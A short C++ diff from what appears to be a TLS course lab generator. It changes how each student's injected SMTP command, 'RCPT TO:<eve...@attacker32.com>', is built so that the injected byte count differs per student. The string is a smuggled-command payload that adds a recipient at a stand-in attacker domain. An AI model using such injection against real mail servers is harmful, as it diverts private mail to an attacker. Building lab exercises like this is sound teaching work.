@@ -21,7 +21,9 @@ std::string mailSubject(const Variant& v) {
 }
 
 std::string injectedCommand(const Variant& v) {
-  return "RCPT TO:<eve" + std::to_string(v.number("inject/eve", 10, 99)) + "@attacker32.com>";
+  // A name of its own length per student, so the number of injected bytes differs too.
+  return "RCPT TO:<eve." + std::string(v.pick("inject/name", kPayees)) + std::to_string(v.number("inject/eve", 10, 99)) +
+         "@attacker32.com>";
 }
 
 }  // namespace tlslab::course
